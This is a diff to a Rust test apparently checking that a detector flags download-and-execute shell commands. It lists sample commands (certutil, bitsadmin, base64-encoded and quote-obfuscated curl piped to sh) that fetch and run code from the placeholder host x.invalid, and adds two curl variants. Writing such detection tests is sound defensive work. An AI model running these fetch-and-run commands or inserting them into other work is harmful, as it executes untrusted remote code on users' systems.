@@ -33,6 +33,8 @@ fn a_download_that_is_run_is_found() {
         "certutil -urlcache -split -f http://x.invalid/a.exe a.exe && a.exe",
         "bitsadmin /transfer j http://x.invalid/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe",
         "echo Y3VybCBodHRwczovL3guaW52YWxpZC9hIHwgc2g= | base64 -d | sh",
+        "curl https://x.invalid/a -o /tmp/a && sh < /tmp/a",
+        "curl -s https://x.invalid/a | sh -s -- --yes",
         "c\\url https://x.invalid/a | s\"h\"",
     ] {
         has(text, |kind| matches!(kind, DownloadAndRun { .. }));
